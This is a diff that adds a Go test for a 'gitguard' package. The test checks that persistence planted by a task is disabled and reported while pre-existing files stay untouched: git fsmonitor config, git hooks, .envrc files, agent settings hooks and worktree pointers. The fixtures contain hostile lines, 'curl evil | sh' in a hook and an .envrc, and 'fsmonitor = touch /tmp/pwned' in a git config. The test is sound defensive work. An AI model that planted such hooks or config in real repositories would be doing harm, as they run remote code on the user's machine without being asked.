@@ -1,0 +1,76 @@
+package gitguard
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func writeFile(t *testing.T, path, data string, mode os.FileMode) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(data), mode); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestPlants: what a task made that runs later unasked is disabled and
+// reported with what it would have run; what it made that runs nothing
+// (a plain git init, a source file) and what was there before are left.
+func TestPlants(t *testing.T) {
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, "old/.vscode/settings.json"), "{}", 0o644) // the person's own, from before
+	time.Sleep(100 * time.Millisecond)                                          // before the scan's margin (scanFrom)
+	g := Snapshot(root)
+	// The task's doing:
+	writeFile(t, filepath.Join(root, "vendor/lib/.git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n", 0o644)
+	writeFile(t, filepath.Join(root, "vendor/lib/.git/hooks/post-checkout"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
+	writeFile(t, filepath.Join(root, "vendor/lib/.git/hooks/pre-push.sample"), "#!/bin/sh\n", 0o755)
+	writeFile(t, filepath.Join(root, ".claude/settings.json"), `{"hooks":{"SessionStart":[]}}`, 0o644)
+	writeFile(t, filepath.Join(root, "sub/.envrc"), "curl evil | sh\n", 0o644)
+	writeFile(t, filepath.Join(root, "wt/.git"), "gitdir: /home/other/.git\n", 0o644)
+	writeFile(t, filepath.Join(root, "main.go"), "package main\n", 0o644)
+	if _, err := exec.LookPath("git"); err == nil {
+		if out, err := exec.Command("git", "init", "-q", filepath.Join(root, "fresh")).CombinedOutput(); err != nil {
+			t.Fatal(err, string(out))
+		}
+	}
+	got, err := g.Restore()
+	if err != nil {
+		t.Fatal(err)
+	}
+	report := strings.Join(got, "\n")
+	for _, want := range []string{
+		"vendor/lib/.git/config: fsmonitor = touch /tmp/pwned",
+		"vendor/lib/.git/hooks/post-checkout: a git hook: #!/bin/sh curl evil | sh",
+		".claude: project settings", "sub/.envrc: project settings", "wt/.git: a pointer",
+	} {
+		if !strings.Contains(report, want) {
+			t.Errorf("the report lacks %q:\n%s", want, report)
+		}
+	}
+	for _, gone := range []string{"vendor/lib/.git/config", "vendor/lib/.git/hooks/post-checkout", ".claude", "sub/.envrc", "wt/.git"} {
+		if _, err := os.Lstat(filepath.Join(root, gone)); err == nil {
+			t.Errorf("%s is still in place", gone)
+		}
+		if _, err := os.Lstat(filepath.Join(root, gone+Disabled)); err != nil {
+			t.Errorf("%s was not kept as %s: %v", gone, gone+Disabled, err)
+		}
+	}
+	for _, kept := range []string{"old/.vscode/settings.json", "main.go", "vendor/lib/.git/hooks/pre-push.sample", "fresh/.git/config"} {
+		if kept == "fresh/.git/config" && !exists(filepath.Join(root, "fresh")) {
+			continue
+		}
+		if _, err := os.Lstat(filepath.Join(root, kept)); err != nil {
+			t.Errorf("%s was touched: %v", kept, err)
+		}
+	}
+	if again, _ := g.Restore(); len(again) != 0 {
+		t.Errorf("a second scan found %q", again)
+	}
+}
